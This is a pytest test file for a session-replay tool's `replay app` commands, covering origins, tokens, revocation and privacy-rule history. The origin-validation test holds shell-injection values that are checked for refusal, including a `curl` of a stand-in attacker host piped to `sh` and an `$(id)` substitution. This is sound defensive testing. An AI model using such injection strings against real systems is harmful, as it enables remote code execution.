"""`replay app` as a person types it: each action says what it is for, the list has a
header, and `replay app origins` changes an application's origins (a mistake changes
nothing)."""
from __future__ import annotations

import json

from replay_tools.intake import replay_cli


def _origins(data, name: str) -> list[str]:
    proc = replay_cli(data, "app", "list", "--json")
    assert proc.returncode == 0, proc.stderr
    return next(a["origins"] for a in json.loads(proc.stdout) if a["name"] == name)


def test_app_origins_adds_removes_and_refuses_mistakes_in_one_line(tmp_path):
    data = tmp_path / "data"
    assert replay_cli(data, "app", "create", "shop", "--origin", "https://a.test").returncode == 0
    proc = replay_cli(data, "app", "origins", "shop", "--add", "https://B.test/",
                      "--add", "http://localhost:8080", "--remove", "https://a.test")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "application shop: origins https://b.test, http://localhost:8080\n"
    assert _origins(data, "shop") == ["https://b.test", "http://localhost:8080"]
    for bad in (["--add", "ftp://c.test"], ["--add", "https://c.test", "--add", "c.test/x"],
                ["--remove", "https://never.test"]):
        proc = replay_cli(data, "app", "origins", "shop", *bad)
        assert proc.returncode == 2 and len(proc.stderr.splitlines()) == 1, (bad, proc.stderr)
        assert "Traceback" not in proc.stderr
    assert _origins(data, "shop") == ["https://b.test", "http://localhost:8080"]
    proc = replay_cli(data, "app", "origins", "nobody", "--add", "https://c.test")
    assert proc.returncode == 2 and "no application 'nobody'" in proc.stderr
    proc = replay_cli(data, "app", "origins", "shop")   # no change: only shows them
    assert proc.stdout == "application shop: origins https://b.test, http://localhost:8080\n"


def test_app_actions_have_help_and_the_list_a_header(tmp_path):
    data = tmp_path / "data"
    for action in ("create", "revoke", "token", "rules", "origins", "list"):
        proc = replay_cli(data, "app", action, "--help")
        assert proc.returncode == 0, proc.stderr
        usage, _, rest = proc.stdout.partition("\n\n")
        description = rest.split("\n\n")[0]
        assert not description.startswith(("positional", "options")), (action, proc.stdout)
        # (`create` said NAME is "the application's name (or its id)": a new one has no id)
        said = " ".join(proc.stdout.split())
        if action == "create":
            assert "NAME the new application's name (1-64" in said, proc.stdout
        elif action != "list":
            assert "NAME the application's name (or its id)" in said, (action, proc.stdout)
    replay_cli(data, "app", "create", "shop", "--origin", "https://a.test")
    lines = replay_cli(data, "app", "list").stdout.splitlines()
    assert lines[0].split("\t") == ["name", "id", "state", "origins", "rules"]
    assert lines[1].split("\t")[0::2] == ["shop", "active", "intake"]
    assert lines[1].split("\t")[3] == "https://a.test"
    # the rules column's words said under the list ("intake" said nothing by itself)
    assert lines[2:] == ["rules: own = the application's own (`replay app rules NAME --rules"
                         " FILE`); intake = the intake's (`replay serve --rules FILE`, else the"
                         " data folder's active rules) - `replay app rules NAME` prints them"]


def test_replay_app_alone_names_its_actions_and_where_the_desktop_app_is(tmp_path):
    """`replay app` alone said `the following arguments are required: ACTION`: no action
    named, and a person after the desktop app not told it is `replay` with no command."""
    from app.cli import build_parser
    proc = replay_cli(tmp_path / "nothing", "app")
    assert proc.returncode == 2 and proc.stdout == "", proc.stderr
    assert proc.stderr == ("replay: error: `replay app` takes an action: create, list,"
                           " origins, revoke, token, rules, dictionary (`replay app --help` says what each"
                           " does) - it manages the applications that send sessions to `replay"
                           " serve`; the desktop app is `replay` with no command\n")
    assert not (tmp_path / "nothing").exists()
    app_parser = build_parser()._subparsers._group_actions[0].choices["app"]
    actions = app_parser._subparsers._group_actions[0].choices
    assert ", ".join(actions) in proc.stderr


def test_app_rules_prints_the_rules_in_force_for_capture_js(tmp_path):
    """What to paste into `ReplayCapture.start({rules: ...})`: the application's own rules,
    else the data folder's, as capture.js takes them."""
    from recorder.privacy import Rules, parse_rules

    data = tmp_path / "data"
    assert replay_cli(data, "app", "create", "shop", "--origin", "https://a.test").returncode == 0
    proc = replay_cli(data, "app", "rules", "shop", "--json")
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout) == Rules.default().for_capture()
    assert Rules.from_json(json.loads(proc.stdout)) == Rules.default()   # (read back: the same)
    text = replay_cli(data, "app", "rules", "shop").stdout
    assert text.startswith("# application shop: the data folder's rules")
    assert parse_rules(text) == Rules.default()
    own = tmp_path / "own.toml"
    own.write_text('version = 1\ndefault = "mask"\n[[rule]]\nselector = "#q"\nlevel = "allow"\n')
    assert replay_cli(data, "app", "rules", "shop", "--rules", str(own), "--yes").returncode == 0
    shown = json.loads(replay_cli(data, "app", "rules", "shop", "--json").stdout)
    assert shown["default"] == "mask" and shown["rules"] == [{"selector": "#q", "level": "allow"}]
    proc = replay_cli(data, "app", "rules", "nobody", "--json")
    assert proc.returncode == 2 and len(proc.stderr.splitlines()) == 1


def test_a_dry_run_under_the_rules_in_force_uses_an_applications_own_rules(tmp_path):
    """An application's sessions were masked with its own rules (`replay app rules`), so "is
    the stored history as masked as today's rules ask?" must ask it of those: without
    --rules, each of its sessions is looked at - and re-masked - under them, and the line says
    so. --rules FILE still applies FILE to every session."""
    from pathlib import Path

    fixture = Path(__file__).resolve().parents[1] / "fixtures" / "rrweb-player-demo.json"
    data = tmp_path / "data"
    assert replay_cli(data, "app", "create", "shop").returncode == 0
    app_id = next(a["id"] for a in json.loads(replay_cli(data, "app", "list", "--json").stdout))
    proc = replay_cli(data, "import", fixture, "--app", app_id)
    assert proc.returncode == 0, proc.stderr
    sid = json.loads(replay_cli(data, "sessions", "--json").stdout)[0]["id"]
    before = replay_cli(data, "mask", "--dry-run", "--all")
    assert before.returncode == 0, before.stderr
    assert before.stdout.startswith(f"{sid}\twould change 0 of ")   # the folder's rules: as stored
    strict = tmp_path / "strict.toml"
    strict.write_text('version = 1\ndefault = "mask"\n')
    assert replay_cli(data, "app", "rules", "shop", "--rules", strict).returncode == 0
    proc = replay_cli(data, "mask", "--dry-run", "--all")
    assert proc.returncode == 0, proc.stderr
    first = proc.stdout.splitlines()[0]
    assert first.startswith(f"{sid} (application shop's rules)\twould change ")
    assert not first.split("would change ")[1].startswith("0 of"), first
    again = replay_cli(data, "mask", "--dry-run", "--all", "--rules", strict)
    assert again.stdout.splitlines()[0].split("\t")[1] == first.split("\t")[1]   # the same, by name
    assert "application shop" not in again.stdout
    # the re-mask itself, under the rules in force: the application's, as its dry run said
    done = replay_cli(data, "mask", "--all")
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[0].startswith(f"{sid} (application shop's rules)\tre-masked\t")
    assert "are re-masked under those" in done.stderr
    after = replay_cli(data, "mask", "--dry-run", "--all")
    assert after.stdout.startswith(f"{sid} (application shop's rules)\twould change 0 of ")


def test_sessions_of_an_application_by_its_name_or_id(tmp_path):
    """`replay sessions --app` took only the id (`--app shop` said "no sessions match"),
    though every `replay app` command takes the name."""
    from pathlib import Path

    fixture = Path(__file__).resolve().parents[1] / "fixtures" / "rrweb-player-demo.json"
    data = tmp_path / "data"
    assert replay_cli(data, "app", "create", "shop").returncode == 0
    app_id = next(a["id"] for a in json.loads(replay_cli(data, "app", "list", "--json").stdout))
    assert replay_cli(data, "import", fixture, "--app", app_id).returncode == 0
    for name in ("shop", app_id):
        rows = json.loads(replay_cli(data, "sessions", "--app", name, "--json").stdout)
        assert [r["application"] for r in rows] == [app_id], name
    # no application has that name or id (nor any session): a mistake, said as one
    for args in (("--app", "other"), ("--app", "other", "--json")):
        proc = replay_cli(data, "sessions", *args)
        assert proc.returncode == 2 and proc.stdout == "", (args, proc.stdout)
        assert proc.stderr.strip() == ("replay: error: no application has the name or id"
                                       " 'other' - `replay app list` shows them"), proc.stderr
    # an application with no sessions (yet), and a label a session was imported with
    assert replay_cli(data, "app", "create", "blog").returncode == 0
    proc = replay_cli(data, "sessions", "--app", "blog")
    assert proc.returncode == 0 and "no sessions match" in proc.stdout
    other = tmp_path / "other"
    assert replay_cli(other, "import", fixture, "--app", "legacy").returncode == 0
    rows = json.loads(replay_cli(other, "sessions", "--app", "legacy", "--json").stdout)
    assert [r["application"] for r in rows] == ["legacy"]
    # the player's Session tab names the application as the list does (it showed app_62bd…)
    from app.commands._source import open_source
    from player.qt.session_view import build_session_view
    from player.replayer import Replayer
    (shop_row,) = json.loads(replay_cli(data, "sessions", "--json").stdout)
    for folder, sid, shown in ((data, shop_row["id"], f"shop ({app_id})"),
                               (other, rows[0]["id"], "legacy")):
        src = open_source(sid, folder)
        try:
            facts = dict(build_session_view(Replayer(src), src.info,
                                            src.application_name).facts)
        finally:
            src.close()
        assert facts["Application"] == shown, facts


def test_an_unreadable_applications_file_is_said_in_one_line(tmp_path):
    from pathlib import Path

    fixture = Path(__file__).resolve().parents[1] / "fixtures" / "rrweb-player-demo.json"
    data = tmp_path / "data"
    assert replay_cli(data, "import", fixture).returncode == 0
    (data / "apps.sqlite3").write_bytes(b"not a database at all" * 100)
    for args in (("sessions", "--app", "shop"), ("mask", "--dry-run", "--all")):
        proc = replay_cli(data, *args)
        lines = [ln for ln in proc.stderr.splitlines() if ln.strip() and "note:" not in ln]
        assert proc.returncode == 2 and len(lines) == 1, (args, proc.stderr)
        assert "apps.sqlite3 cannot be read" in lines[0] and "Traceback" not in proc.stderr
    assert (data / "apps.sqlite3").read_bytes() == b"not a database at all" * 100


def test_origins_are_stored_and_compared_as_browsers_send_them(tmp_path):
    """A browser's Origin has no default port and its host in lower-case punycode: origins
    are stored that way, so the ones a person types match what pages send."""
    data = tmp_path / "data"
    proc = replay_cli(data, "app", "create", "shop", "--origin", "https://Shop.Example.com:443",
                      "--origin", "http://localhost:80", "--origin", "https://bücher.example/",
                      "--origin", "HTTP://LocalHost:8080")
    assert proc.returncode == 0, proc.stderr
    want = ["https://shop.example.com", "http://localhost", "https://xn--bcher-kva.example",
            "http://localhost:8080"]
    assert _origins(data, "shop") == want
    proc = replay_cli(data, "app", "origins", "shop", "--add", "https://BÜCHER.example:443",
                      "--add", "http://[::1]:80", "--remove", "http://LOCALHOST:80/")
    assert proc.returncode == 0, proc.stderr
    assert _origins(data, "shop") == [want[0], want[2], want[3], "http://[::1]"]
    # (an Origin header is anyone's to write: a host a shell reads as more went into the
    # operator's log inside the command that allows it)
    for bad in ("https://shop.example.com:99999", "https://\u2488.example",
                "https://a;{curl,evil.example}|sh;.example", "https://a$(id).example"):
        proc = replay_cli(data, "app", "origins", "shop", "--add", bad)
        assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
        (line,) = proc.stderr.strip().splitlines()
        assert repr(bad) in line, line
    assert _origins(data, "shop") == [want[0], want[2], want[3], "http://[::1]"]


def test_a_wildcard_origin_allows_every_subdomain_and_nothing_else(tmp_path):
    """`--origin 'https://*.example.com'` was stored as written and matched no page (a site
    owner's tryout: a.example.com got 403): it allows the subdomains at any depth, with that
    scheme and port; a star anywhere else is refused in one line."""
    from recorder.intake.apps import Applications
    data = tmp_path / "data"
    proc = replay_cli(data, "app", "create", "site", "--origin", "https://*.Example.com:443",
                      "--origin", "http://*.example.com:8080")
    assert proc.returncode == 0, proc.stderr
    assert _origins(data, "site") == ["https://*.example.com", "http://*.example.com:8080"]
    apps = Applications(data)
    try:
        app = apps.get("site")
        for sent in ("https://a.example.com", "https://a.b.example.com",
                     "http://shop.example.com:8080"):
            assert app.allows_origin(sent), sent
        for sent in ("https://example.com", "https://evilexample.com", "http://a.example.com",
                     "https://a.example.com:8443", "https://a.example.com.evil.net", "null"):
            assert not app.allows_origin(sent), sent
    finally:
        apps.close()
    for bad in ("https://*", "https://a.*.example.com", "https://*example.com",
                "https://*.[::1]"):
        proc = replay_cli(data, "app", "origins", "site", "--add", bad)
        assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
        (line,) = proc.stderr.strip().splitlines()
        assert repr(bad) in line and "https://*.example.com for its subdomains" in line, line
    # what anybody registers under: no one owner's sites - said so (it was "is not
    # scheme://host[:port]", which it is: an operator's tryout)
    for bad, under in (("https://*.com", "com"), ("https://*.Co.UK", "co.uk"),
                       ("https://*.localhost", "localhost")):
        proc = replay_cli(data, "app", "origins", "site", "--add", bad)
        assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
        (line,) = proc.stderr.strip().splitlines()
        assert line == (f"replay: error: origin {bad!r}: {under} is a top-level or public"
                        " domain, so a wildcard over it would allow every site under it - give"
                        f" the site's own domain (https://*.example.{under})"), line
    # stored as written before a star meant anything: it allows no page, and can be removed
    import json as _json
    apps = Applications(data)
    try:
        apps.db.execute("UPDATE applications SET origins=? WHERE name='site'",
                        (_json.dumps(["https://*.com", "https://*.example.com"]),))
        assert not apps.get("site").allows_origin("https://evil.com")
        assert apps.change_origins("site", remove=["https://*.com"]).origins == (
            "https://*.example.com",)
    finally:
        apps.close()


def test_an_origin_stored_before_normalising_still_matches_and_null_is_refused(tmp_path):
    """Applications stored before origins were normalised keep working (both sides are
    compared normalised), and can have such an origin removed as typed now; an Origin that
    is no origin ("null": a sandboxed frame, a file:// page) is refused, not an error."""
    from recorder.intake.apps import Applications
    apps = Applications(tmp_path)
    try:
        app, _ = apps.create("old")
        apps.db.execute("UPDATE applications SET origins=? WHERE id=?",
                        (json.dumps(["https://shop.example.com:443", "https://bücher.example"]),
                         app.id))
        app = apps.get("old")
        assert app.allows_origin("https://shop.example.com")
        assert app.allows_origin("https://xn--bcher-kva.example")
        assert not app.allows_origin("https://other.example")
        assert not app.allows_origin("null")
        app = apps.change_origins("old", remove=["https://shop.example.com"])
        assert app.origins == ("https://xn--bcher-kva.example",)
    finally:
        apps.close()


def test_app_rules_refuses_an_empty_path_in_one_line(tmp_path):
    """`--rules ""` (an unset variable in a script) said ".: no such file"."""
    data = tmp_path / "data"
    assert replay_cli(data, "app", "create", "shop").returncode == 0
    for empty in ("", "  "):
        proc = replay_cli(data, "app", "rules", "shop", "--rules", empty)
        assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
        (line,) = proc.stderr.strip().splitlines()
        assert line == ("replay: error: --rules is empty - give the path of a rules file (TOML),"
                        " or leave --rules out to see the rules in force"), line
    assert json.loads(replay_cli(data, "app", "list", "--json").stdout)[0]["rules"] is False


def test_a_revoked_or_leaked_token_is_replaced_by_app_token(tmp_path):
    """`revoke` ends a token for good; the application itself goes on: `app token` prints a
    new token (once), the old one is refused from then on - by the running intake, at its
    next request - and the application's id, origins and sessions stay. `create` with the
    name of an application that exists (revoked or not) says which command to run."""
    import time

    from replay_tools.intake import IntakeServer, post_batch
    data = tmp_path / "data"
    srv = IntakeServer(data)
    app_id, old = srv.create_app("shop", origins=["https://a.test"])
    t = int(time.time() * 1000)

    def batch(i: int) -> dict:
        return {"session_id": "visit", "events": [
            {"type": 4, "timestamp": t + i, "data": {"href": "https://a.test/", "width": 8,
                                                     "height": 6}}]}
    with srv:
        assert post_batch(srv.url, app_id, old, batch(0))[0] == 202
        assert replay_cli(data, "app", "revoke", "shop").returncode == 0
        status, body = post_batch(srv.url, app_id, old, batch(1))
        assert (status, body["error"]) == (401, "token_revoked")
        assert "`replay app token NAME`" in body["message"]   # what makes it work again
        proc = replay_cli(data, "app", "create", "shop")
        assert proc.returncode == 2 and "`replay app token shop` gives it a new one" in proc.stderr
        proc = replay_cli(data, "app", "token", "shop", "--json")
        assert proc.returncode == 0, proc.stderr
        new = json.loads(proc.stdout)
        assert new["id"] == app_id and new["token"] != old and new["origins"] == ["https://a.test"]
        assert post_batch(srv.url, app_id, new["token"], batch(2))[0] == 202
        status, body = post_batch(srv.url, app_id, old, batch(3))
        assert (status, body["error"]) == (401, "bad_token")
        proc = replay_cli(data, "app", "token", "shop")      # a leaked one: replaced again
        assert "Keep the token" in proc.stdout and "old token is refused" in proc.stdout
        status, body = post_batch(srv.url, app_id, new["token"], batch(4))
        assert (status, body["error"]) == (401, "bad_token")
    listed = json.loads(replay_cli(data, "app", "list", "--json").stdout)
    assert [(a["name"], a["revoked"]) for a in listed] == [("shop", False)]
    assert new["token"] not in json.dumps(listed)
    sessions = json.loads(replay_cli(data, "sessions", "--app", "shop", "--json").stdout)
    assert [s["record_count"] for s in sessions] == [2], sessions   # batches 0 and 2, nothing else
    proc = replay_cli(data, "app", "token", "nobody")
    assert proc.returncode == 2 and len(proc.stderr.splitlines()) == 1


def test_app_rules_clear_puts_the_intakes_rules_back(tmp_path):
    data = tmp_path / "data"
    assert replay_cli(data, "app", "create", "shop").returncode == 0
    own = tmp_path / "own.toml"
    own.write_text('version = 1\ndefault = "mask"\n')
    assert replay_cli(data, "app", "rules", "shop", "--rules", str(own)).returncode == 0
    assert replay_cli(data, "app", "list").stdout.splitlines()[1].endswith("\town")
    # the intake's rules (the built-in default here) mask less than its own: asked first
    proc = replay_cli(data, "app", "rules", "shop", "--clear")
    assert proc.returncode == 2 and proc.stderr == (
        "replay: error: the data folder's rules (built-in default) mask less than what"
        " application shop's batches are masked with now, its own rules (default level: mask ->"
        " mask-user-input): add --yes to drop its own rules anyway\n")
    assert replay_cli(data, "app", "list").stdout.splitlines()[1].endswith("\town")
    proc = replay_cli(data, "app", "rules", "shop", "--clear", "--yes")
    assert proc.returncode == 0 and "its own rules dropped" in proc.stdout, proc.stderr
    assert replay_cli(data, "app", "list").stdout.splitlines()[1].endswith("\tintake")
    assert replay_cli(data, "app", "rules", "shop").stdout.startswith(
        "# application shop: the data folder's rules")
    proc = replay_cli(data, "app", "rules", "shop", "--clear", "--rules", str(own))
    assert proc.returncode == 2 and "not allowed with" in proc.stderr


def test_revoking_twice_and_clearing_no_rules_say_so(tmp_path):
    """`app revoke` of a revoked application said "token revoked" again, `app rules --clear`
    of one without rules "its own rules dropped" (an operator's tryout); and `serve --host
    ::1` printed an address no browser takes (http://::1:8484)."""
    from app.commands.serve import http_address
    data = tmp_path / "data"
    assert replay_cli(data, "app", "create", "shop").returncode == 0
    said = [replay_cli(data, "app", "revoke", "shop").stdout for _ in range(2)]
    assert "token revoked" in said[0] and "was revoked already" in said[1], said
    said = [replay_cli(data, "app", "rules", "shop", "--clear").stdout for _ in range(1)]
    assert "it had no rules of its own" in said[0], said
    assert http_address("::1", 8484) == "http://[::1]:8484"
    assert http_address("127.0.0.1", 8484) == "http://127.0.0.1:8484"



def test_app_create_says_when_it_made_a_new_data_folder(tmp_path):
    """A mistyped --data (or the install page's placeholder pasted as is) made a new, empty
    data folder silently, one the running `replay serve` does not read: said once, with the
    folder's whole path and the --data that serves it; not said for a folder that exists."""
    data = tmp_path / "new data"
    proc = replay_cli(data, "app", "create", "shop")
    assert proc.returncode == 0, proc.stderr
    where = data.resolve()
    assert proc.stderr == (f"replay: note: created a new data folder at {where} - `replay serve"
                           f" --data '{where}'` must use it\n")
    proc = replay_cli(data, "app", "create", "blog")
    assert proc.returncode == 0 and proc.stderr == "", proc.stderr



def test_app_rules_asks_before_rules_that_mask_less(tmp_path):
    """`replay app rules shop --rules loose.toml` (default allow, no detectors) took effect
    with no question (a privacy officer's tryout), while `mask --activate` of the same file
    asks: the application's next batches would be stored in clear. It asks now - refused
    without a terminal unless --yes, "nothing changed" on a no - and a stricter file is
    applied without a word."""
    from terminal import replay_at_a_terminal
    data = tmp_path / "data"
    assert replay_cli(data, "app", "create", "shop").returncode == 0
    loose, strict = tmp_path / "loose.toml", tmp_path / "strict.toml"
    loose.write_text('default = "allow"\ndetectors = []\n')
    strict.write_text('default = "mask"\n')
    proc = replay_cli(data, "app", "rules", "shop", "--rules", str(loose))
    assert proc.returncode == 2 and proc.stderr.startswith(
        f"replay: error: {loose} masks less than what application shop's batches are masked"
        " with now, the data folder's rules (built-in default) (default level: mask-user-input"
        " -> allow; detector removed: email;")
    assert proc.stderr.rstrip().endswith("add --yes to apply it anyway") and \
        len(proc.stderr.splitlines()) == 1
    assert replay_cli(data, "app", "list").stdout.splitlines()[1].endswith("\tintake")
    code, out, shown = replay_at_a_terminal("--data", data, "app", "rules", "shop", "--rules",
                                            loose, answer=b"n\n")
    assert code == 0 and "Mask application shop's next batches so? [y/N]" in shown \
        and "nothing changed" in shown, shown
    assert replay_cli(data, "app", "list").stdout.splitlines()[1].endswith("\tintake")
    code, out, shown = replay_at_a_terminal("--data", data, "app", "rules", "shop", "--rules",
                                            loose, answer=b"y\n")
    assert code == 0 and "apply to its next batches" in out, shown
    # said once made, as `mask --activate` says it (a privacy officer's tryout: nothing did)
    warned = "replay: warning: application shop's batches are masked less than before:" \
        " default level: mask-user-input -> allow;"
    assert warned in shown and "`replay app rules shop --history` shows every change" in shown, shown
    assert json.loads(replay_cli(data, "app", "rules", "shop", "--json").stdout)["default"] == \
        "allow"
    proc = replay_cli(data, "app", "rules", "shop", "--rules", str(strict))
    proc = replay_cli(data, "app", "rules", "shop", "--rules", str(loose), "--yes")
    assert proc.returncode == 0 and proc.stderr.startswith(warned.replace(
        "mask-user-input", "mask")) and proc.stderr.count("warning") == 1, proc.stderr
    proc = replay_cli(data, "app", "rules", "shop", "--rules", str(strict))   # stricter: no question
    assert proc.returncode == 0 and proc.stderr.startswith("replay: note: a page given a copy") \
        and "warning" not in proc.stderr, proc.stderr
    # a data folder's rules file that cannot be read blocks no change made with --yes
    (data / "rules.toml").write_text('default = "bogus')
    proc = replay_cli(data, "app", "rules", "shop", "--clear")
    assert proc.returncode == 2 and "cannot tell whether that masks less" in proc.stderr \
        and "add --yes" in proc.stderr and len(proc.stderr.splitlines()) == 1, proc.stderr
    proc = replay_cli(data, "app", "rules", "shop", "--rules", str(strict), "--yes")
    assert proc.returncode == 0, proc.stderr


def test_serve_with_looser_rules_says_what_it_stores_in_clear(tmp_path):
    """`replay serve --rules loose.toml` started without a word, though every application
    without rules of its own is then stored in clear where the folder's rules mask (a
    reviewer's find): a warning names what the file lets through. (The port is taken, so
    the command ends after its checks.)"""
    import socket
    data = tmp_path / "data"
    assert replay_cli(data, "app", "create", "shop").returncode == 0
    loose = tmp_path / "loose.toml"
    loose.write_text('default = "allow"\ndetectors = []\n')
    with socket.socket() as held:
        held.bind(("127.0.0.1", 0))
        held.listen(1)
        port = held.getsockname()[1]
        proc = replay_cli(data, "serve", "--port", str(port), "--rules", loose)
    lines = proc.stderr.splitlines()
    assert proc.returncode == 2 and lines[0].startswith(
        "replay: warning: what applications without rules of their own send is masked by"
        f" {loose}, which masks less than the data folder's rules (built-in default):"
        " default level: mask-user-input -> allow;") and lines[0].endswith(
        "what only those mask is stored in clear"), proc.stderr
    assert "in use" in lines[-1] or "port" in lines[-1], proc.stderr


def test_app_rules_history_says_who_changed_what_and_gives_a_revision_back(tmp_path):
    """An application's rules kept no history (a privacy officer's tryout: who loosened the
    shop's masking, and what was it before?). Each change is a revision: `--history` lists
    when, who and what changed, `--revision N` prints the rules it set - a rules file that
    `--rules` takes again - and a revision that is not there is one line, exit 2."""
    import os
    import pwd
    import re
    data = tmp_path / "data"
    assert replay_cli(data, "app", "create", "shop").returncode == 0
    proc = replay_cli(data, "app", "rules", "shop", "--history")
    assert proc.returncode == 0 and "its own rules were never changed" in proc.stdout
    strict, loose = tmp_path / "strict.toml", tmp_path / "loose.toml"
    strict.write_text('default = "mask"\n[[rule]]\nselector = ".card"\nlevel = "hidden"\n')
    loose.write_text('default = "mask"\n')
    forged = {**os.environ, "USER": "mallory", "LOGNAME": "mallory"}
    for how in (["--rules", str(strict)], ["--rules", str(strict)], ["--rules", str(loose), "--yes"],
                ["--clear", "--yes"]):
        proc = replay_cli(data, "app", "rules", "shop", *how, env=forged if "--clear" in how else None)
        assert proc.returncode == 0, proc.stderr
    proc = replay_cli(data, "app", "rules", "shop", "--history")
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines[0] == "application shop: 3 changes of its own rules, the oldest first (its" \
        " batches are masked with the intake's rules)"
    who = pwd.getpwuid(os.getuid()).pw_name   # the account, not $USER (set as anyone likes)
    assert [ln.split("\t")[0] for ln in lines if not ln.startswith("\t")][1:4] == ["r1", "r2", "r3"]
    assert all(re.fullmatch(r"r\d\t\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC\t" + who, ln)
               for ln in lines if ln.startswith("r")), lines
    assert [ln.strip() for ln in lines if ln.startswith("\t")] == [
        "its own rules set, in place of the intake's (changes against the data folder's)",
        "default level: mask-user-input -> mask", "rule added: .card (hidden)",
        "its own rules replaced", "rule removed: .card (hidden)",
        "its own rules dropped: the intake's apply (changes against the data folder's)",
        "default level: mask -> mask-user-input"]
    listed = json.loads(replay_cli(data, "app", "rules", "shop", "--history", "--json").stdout)
    assert [(c["revision"], c["who"], c["rules"]) for c in listed] == [
        (1, who, strict.read_text()), (2, who, loose.read_text()), (3, who, None)]
    # revision 1 given back: its rules again, from the file --revision printed
    proc = replay_cli(data, "app", "rules", "shop", "--revision", "1")
    assert proc.returncode == 0 and proc.stdout.startswith("# application shop, revision 1 (")
    back = tmp_path / "r1.toml"
    back.write_text(proc.stdout)
    assert replay_cli(data, "app", "rules", "shop", "--rules", str(back)).returncode == 0
    assert json.loads(replay_cli(data, "app", "rules", "shop", "--json").stdout) == \
        json.loads(replay_cli(data, "app", "rules", "shop", "--revision", "1", "--json").stdout)
    assert '"hidden"' in replay_cli(data, "app", "rules", "shop", "--json").stdout
    # its rules in force name their revision of its history (they said `revision = 0`)
    shown = replay_cli(data, "app", "rules", "shop").stdout.splitlines()
    assert shown[0] == "# application shop: its own rules (revision 4: `--history` lists them)"
    assert "revision = 4" in shown
    # the revision that dropped its own rules prints no rules file (`--rules` would have read
    # it as rules of its own, the built-in default's: a privacy officer's tryout)
    proc = replay_cli(data, "app", "rules", "shop", "--revision", "3")
    assert proc.returncode == 2 and proc.stdout == "" and proc.stderr.startswith(
        "replay: error: revision 3 of application shop set no rules: it dropped its own (") \
        and proc.stderr.endswith("`replay app rules shop --clear` does that again\n"), proc.stderr
    proc = replay_cli(data, "app", "rules", "shop", "--revision", "9")
    assert proc.returncode == 2 and proc.stderr == (
        "replay: error: application shop has no revision 9 of its rules (its revisions: r1 to"
        " r4) - `replay app rules shop --history` lists them\n")
    proc = replay_cli(data, "app", "rules", "shop", "--history", "--rules", str(loose))
    assert proc.returncode == 2 and "not allowed with" in proc.stderr


def test_app_rules_set_again_say_nothing_changed_and_a_change_names_the_pages_copy(tmp_path):
    """A privacy officer's tryout: setting an application's rules to what they are already
    said "apply to its next batches" (no revision was kept); and a change said nothing of
    the copy a page's snippet may hold, with which capture.js went on masking in the
    browser. The same rules again: nothing changed; a change: where the page's copy is."""
    data = tmp_path / "data"
    assert replay_cli(data, "app", "create", "shop").returncode == 0
    own = tmp_path / "own.toml"
    own.write_text('version = 1\ndefault = "mask"\n')
    proc = replay_cli(data, "app", "rules", "shop", "--rules", str(own))
    words = " ".join(proc.stderr.split())
    assert proc.returncode == 0 and "apply to its next batches" in proc.stdout
    assert "a page given a copy of shop's rules (`rules:` in its snippet) masks in the browser" \
        " with that copy until it is replaced: `replay app rules shop --json`" in words, words
    proc = replay_cli(data, "app", "rules", "shop", "--rules", str(own))
    assert proc.returncode == 0 and proc.stdout == (
        f"application shop: its rules are {own}'s already - nothing changed\n"), proc.stdout
    assert proc.stderr == ""
    history = replay_cli(data, "app", "rules", "shop", "--history", "--json")
    assert len(json.loads(history.stdout)) == 1
